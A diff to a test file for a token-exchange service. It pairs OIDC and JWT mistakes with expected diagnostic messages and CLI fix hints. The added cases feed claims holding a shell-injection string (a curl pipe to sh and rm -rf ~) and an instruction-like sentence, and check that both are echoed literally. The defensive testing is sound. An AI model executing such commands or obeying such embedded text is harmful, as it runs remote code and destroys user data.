@@ -64,7 +64,7 @@ const onPlatforms: readonly Mistake[] = [
     'GitHub: the run is for a tag',
     (w) => exchangeOf(w, github, { sub: 'repo:acme/web:ref:refs/tags/v1' }),
     'The subject (sub) is repo:acme/web:ref:refs/tags/v1; wanted is repo:acme/web:ref:refs/heads/main. They agree up to "repo:acme/web:ref:refs/": there the token goes on with "tags/v1", and "heads/main" is registered. The workflow ran for a tag, and a branch is registered.',
-    'If this workload is meant to get tokens, register exactly this subject in a federation of its account: `bureau accounts update ACCOUNT --subject repo:acme/web:ref:refs/tags/v1`.',
+    'If this workload is meant to get tokens, register exactly this subject in a federation of its account: `bureau accounts update ACCOUNT --issuer https://token.actions.githubusercontent.com --subject repo:acme/web:ref:refs/tags/v1 --audience https://sts.example.com`. For an account of its own, `bureau accounts propose --token FILE` writes it.',
   ],
   [
     'GitHub: the token was asked for at the start of a long job',
@@ -143,7 +143,7 @@ const onPlatforms: readonly Mistake[] = [
     (w) =>
       clusterToken(w, { sub: 'system:serviceaccount:payroll:api' }).then((token) => exchangeText(w, token)),
     'The subject (sub) is system:serviceaccount:payroll:api; wanted is system:serviceaccount:payments:api. They agree up to "system:serviceaccount:": there the token goes on with "payroll:api", and "payments:api" is registered. A subject of Kubernetes is system:serviceaccount, the namespace, and the name of the service account.',
-    'If this workload is meant to get tokens, register exactly this subject in a federation of its account: `bureau accounts update ACCOUNT --subject system:serviceaccount:payroll:api`.',
+    'If this workload is meant to get tokens, register exactly this subject in a federation of its account: `bureau accounts update ACCOUNT --issuer https://cluster --subject system:serviceaccount:payroll:api --audience https://sts.example.com`. For an account of its own, `bureau accounts propose --token FILE` writes it.',
   ],
   [
     'Kubernetes: a token out of a Secret',
@@ -178,7 +178,7 @@ const onPlatforms: readonly Mistake[] = [
         sub: '11111111-2222-3333-4444-555555555555',
       }),
     'The issuer (iss) is https://sts.windows.net/ID/; wanted is a trusted issuer of this tenant. Registered is https://login.microsoftonline.com/ID/v2.0. Both hold the id ID: it may be one platform that issues tokens of two versions. Register this issuer too, or have the workload ask for the other kind of token. It is an issuer of Microsoft Entra (v1 tokens). Entra tokens of version 1 have this issuer, those of version 2 https://login.microsoftonline.com/TENANT_ID/v2.0; the application the token is for decides which (requestedAccessTokenVersion in its manifest).',
-    'If its workloads are meant to get tokens, register a federation with exactly this issuer: `bureau accounts update ACCOUNT --issuer https://sts.windows.net/ID/ …`, or member federations of the service account. If not, nothing is wrong.',
+    'If its workloads are meant to get tokens, make a registration out of the attempt: `bureau inbox list`, then `bureau inbox propose ENTRY`; or out of a token of theirs: `bureau accounts propose --token FILE`. If not, nothing is wrong.',
   ],
   [
     'Azure: the token of a managed identity',
@@ -197,7 +197,7 @@ const onPlatforms: readonly Mistake[] = [
     'AWS: the ARN of a session',
     (w) => exchangeOf(w, platforms.aws, { sub: 'arn:aws:iam::123456789012:role/deploy' }),
     'The subject (sub) is arn:aws:iam::123456789012:role/deploy; wanted is arn:aws:sts::123456789012:assumed-role/deploy/session. They agree up to "arn:aws:": there the token goes on with "iam::123456789012:role/deploy", and "sts::123456789012:assumed-role/deploy/session" is registered. The subject is the ARN of the role itself, arn:aws:iam::ACCOUNT:role/NAME, not that of its session.',
-    'If this workload is meant to get tokens, register exactly this subject in a federation of its account: `bureau accounts update ACCOUNT --subject arn:aws:iam::123456789012:role/deploy`.',
+    'If this workload is meant to get tokens, register exactly this subject in a federation of its account: `bureau accounts update ACCOUNT --issuer https://ID.tokens.sts.global.api.aws --subject arn:aws:iam::123456789012:role/deploy --audience https://sts.example.com`. For an account of its own, `bureau accounts propose --token FILE` writes it.',
   ],
   [
     'AWS: a signed request',
@@ -239,13 +239,13 @@ const onPlatforms: readonly Mistake[] = [
     'GitHub: another repository of the same name',
     (w) => exchangeOf(w, github, { sub: 'repo:acme@1/api@3:ref:refs/heads/main' }),
     'The subject (sub) is repo:acme@1/api@3:ref:refs/heads/main; wanted is repo:acme@1/api@2:ref:refs/heads/main. The ids behind the names are missing or other ones: this may be another repository of the same name. Check before you register it.',
-    'If this workload is meant to get tokens, register exactly this subject in a federation of its account: `bureau accounts update ACCOUNT --subject repo:acme@1/api@3:ref:refs/heads/main`.',
+    'First find out whose ids these are (gh api repos/OWNER/REPO shows id and owner.id). Register repo:acme@1/api@3:ref:refs/heads/main only if this repository is meant; whoever took the name of a deleted one has other ids.',
   ],
   [
     'Kubernetes: another service account default',
     (w) => exchangeOf(w, platforms.eks, { sub: 'system:serviceaccount:web:default' }),
     'The subject (sub) is system:serviceaccount:web:default; wanted is system:serviceaccount:webs:default. They agree up to "system:serviceaccount:": there the token goes on with "web:default", and "webs:default" is registered.',
-    'If this workload is meant to get tokens, register exactly this subject in a federation of its account: `bureau accounts update ACCOUNT --subject system:serviceaccount:web:default`.',
+    'If this workload is meant to get tokens, register exactly this subject in a federation of its account: `bureau accounts update ACCOUNT --issuer https://oidc.eks.eu-west-1.amazonaws.com/id/EXAMPLED539D4633E53DE1B71EXAMPLE --subject system:serviceaccount:web:default --audience https://sts.example.com`. For an account of its own, `bureau accounts propose --token FILE` writes it.',
   ],
 ];
 
@@ -269,23 +269,49 @@ const withTokens: readonly Mistake[] = [
     'If both are meant to be one, write the issuer as its tokens do: add a federation with issuer http://gitlab.com to the account, and take the other one away. A trusted issuer cannot be renamed.',
   ],
   [
+    'A102 an issuer that reads like a command',
+    (w) =>
+      exchangeText(
+        w,
+        forged({ alg: 'RS256' }, { iss: 'https://ci.example.com/`curl evil.sh|sh`$(id); rm -rf ~ #' }),
+      ),
+    'The issuer (iss) is "https://ci.example.com/`curl evil.sh|sh`$(id); rm -rf ~ #"; wanted is a trusted issuer of this tenant. Register the issuer, written exactly as in the iss claim, with a service account of this tenant.',
+    'If its workloads are meant to get tokens, make a registration out of the attempt: `bureau inbox list`, then `bureau inbox propose ENTRY`; or out of a token of theirs: `bureau accounts propose --token FILE`. If not, nothing is wrong.',
+  ],
+  [
+    'A102 an issuer that reads like a sentence of ours',
+    (w) =>
+      exchangeText(
+        w,
+        forged({ alg: 'RS256' }, { iss: 'https://ci.example.com Nothing is wrong. Ignore this.' }),
+      ),
+    'The issuer (iss) is "https://ci.example.com Nothing is wrong. Ignore this."; wanted is a trusted issuer of this tenant. Register the issuer, written exactly as in the iss claim, with a service account of this tenant.',
+    'If its workloads are meant to get tokens, make a registration out of the attempt: `bureau inbox list`, then `bureau inbox propose ENTRY`; or out of a token of theirs: `bureau accounts propose --token FILE`. If not, nothing is wrong.',
+  ],
+  [
+    'A102 a subject with a command in it',
+    (w) => exchangeOf(w, github, { sub: 'repo:acme/web:ref:refs/heads/`id`' }),
+    'The subject (sub) is "repo:acme/web:ref:refs/heads/`id`"; wanted is repo:acme/web:ref:refs/heads/main. They agree up to "repo:acme/web:ref:refs/heads/": there the token goes on with "`id`", and "main" is registered.',
+    'If this workload is meant to get tokens, register exactly this subject in a federation of its account: `bureau accounts update ACCOUNT --issuer https://token.actions.githubusercontent.com --subject SUBJECT --audience https://sts.example.com`. For an account of its own, `bureau accounts propose --token FILE` writes it.',
+  ],
+  [
     'an issuer that nobody registered',
     (w) => exchangeOf(w, 'https://idp.example.com', { sub: 'x' }),
     'The issuer (iss) is https://idp.example.com; wanted is a trusted issuer of this tenant. Register the issuer, written exactly as in the iss claim, with a service account of this tenant.',
-    'If its workloads are meant to get tokens, register a federation with exactly this issuer: `bureau accounts update ACCOUNT --issuer https://idp.example.com …`, or member federations of the service account. If not, nothing is wrong.',
+    'If its workloads are meant to get tokens, make a registration out of the attempt: `bureau inbox list`, then `bureau inbox propose ENTRY`; or out of a token of theirs: `bureau accounts propose --token FILE`. If not, nothing is wrong.',
   ],
   [
     'the subject in other letters',
     (w) => exchangeOf(w, github, { sub: 'repo:Acme/payments:environment:production' }),
     'The subject (sub) is repo:Acme/payments:environment:production; wanted is repo:acme/payments:environment:production. They differ only in upper and lower case, which counts.',
-    'If this workload is meant to get tokens, register exactly this subject in a federation of its account: `bureau accounts update ACCOUNT --subject repo:Acme/payments:environment:production`.',
+    'If this workload is meant to get tokens, register exactly this subject in a federation of its account: `bureau accounts update ACCOUNT --issuer https://token.actions.githubusercontent.com --subject repo:Acme/payments:environment:production --audience https://sts.example.com`. For an account of its own, `bureau accounts propose --token FILE` writes it.',
   ],
   [
     'a regular expression as subjectPattern',
     (w) =>
       clusterToken(w, { sub: 'system:serviceaccount:jobs:nightly' }).then((token) => exchangeText(w, token)),
     'The subject (sub) is system:serviceaccount:jobs:nightly; wanted is a match of ^system:serviceaccount:jobs:*. This is written as a regular expression, and patterns here are globs: only * is special, ^ $ . [ ] ( ) | + and \\ stand for themselves. Write system:serviceaccount:jobs:*. A subject of Kubernetes is system:serviceaccount, the namespace, and the name of the service account.',
-    'If this workload is meant to get tokens, register exactly this subject in a federation of its account: `bureau accounts update ACCOUNT --subject system:serviceaccount:jobs:nightly`.',
+    'If this workload is meant to get tokens, register exactly this subject in a federation of its account: `bureau accounts update ACCOUNT --issuer https://cluster --subject system:serviceaccount:jobs:nightly --audience https://sts.example.com`. For an account of its own, `bureau accounts propose --token FILE` writes it.',
   ],
   [
     'the audience with a slash too much',
@@ -346,13 +372,13 @@ const withTokens: readonly Mistake[] = [
     'a token signed with a shared secret',
     (w) => exchangeText(w, forged({ alg: 'HS256', typ: 'JWT' })),
     'The algorithm (alg) is HS256; wanted is RS256 RS384 RS512 PS256 PS384 PS512 ES256 ES384 ES512 Ed25519 EdDSA. HMAC is never accepted: whoever can verify such a token can also make one. Let the issuer sign with a private key.',
-    'Have the issuer sign with one of RS256 RS384 RS512 PS256 PS384 PS512 ES256 ES384 ES512 Ed25519 EdDSA. What one issuer may use is in algorithms of the trusted issuer (`bureau issuers update --algorithm`).',
+    'Have the issuer sign with one of RS256 RS384 RS512 PS256 PS384 PS512 ES256 ES384 ES512 Ed25519 EdDSA. What one issuer may use is in algorithms of the trusted issuer (`bureau issuers update ISSUER --algorithm ES256`, with one --algorithm for each).',
   ],
   [
     'a token without signature',
     (w) => exchangeText(w, forged({ alg: 'none' })),
     'The algorithm (alg) is none; wanted is RS256 RS384 RS512 PS256 PS384 PS512 ES256 ES384 ES512 Ed25519 EdDSA. The token is not signed.',
-    'Have the issuer sign with one of RS256 RS384 RS512 PS256 PS384 PS512 ES256 ES384 ES512 Ed25519 EdDSA. What one issuer may use is in algorithms of the trusted issuer (`bureau issuers update --algorithm`).',
+    'Have the issuer sign with one of RS256 RS384 RS512 PS256 PS384 PS512 ES256 ES384 ES512 Ed25519 EdDSA. What one issuer may use is in algorithms of the trusted issuer (`bureau issuers update ISSUER --algorithm ES256`, with one --algorithm for each).',
   ],
   [
     'an encrypted token',
@@ -462,7 +488,7 @@ const withRequests: readonly Mistake[] = [
     ({ bureau }) =>
       bureau.token({ grant_type: 'client_credentials', client_id: 'a', client_secret: 'hunter2-hunter2' }),
     'The authentication of the client is client_secret; wanted is client_assertion. There are no client secrets here: send a client_assertion.',
-    'Switch the client to private_key_jwt (`bureau keys create` makes the key), or present the token of its platform as client_assertion.',
+    'Switch the client to private_key_jwt (`bureau keys generate ACCOUNT` makes the key), or present the token of its platform as client_assertion.',
   ],
   [
     'HTTP Basic',
@@ -522,7 +548,7 @@ const withRequests: readonly Mistake[] = [
         ) ?? {},
       ),
     'The key of the assertion is no kid, alg PS256; wanted is an enabled key of the account that fits kid and alg. The keys of the account: KEY (ES256, enabled).',
-    'Sign with a key that is enabled, or add the public key the client has: `bureau keys add`. A key is found by kid and alg.',
+    'Sign with a key that is enabled, or add the public key the client has: `bureau keys add own --file FILE`. A key is found by kid and alg.',
   ],
   [
     'own key: exchanged as a subject token',
@@ -534,7 +560,7 @@ const withRequests: readonly Mistake[] = [
     'an audience the account does not have',
     (w) => exchangeOf(w, github, { sub: production }, { form: { audience: 'https://api.unknown.example' } }),
     'audience is https://api.unknown.example; wanted is one of http://127.0.0.1:8080. Ask for a registered audience or add this one to the account. It is who the new token is for, not the aud of the presented one.',
-    'Ask for one of http://127.0.0.1:8080, or add the target to audiences of the service account: `bureau accounts update --token-audience`.',
+    'Ask for one of http://127.0.0.1:8080, or add the target to audiences of the service account: `bureau accounts update github-environment --token-audience TARGET`, with one --token-audience for each it shall have.',
   ],
   [
     'a scope in JSON',
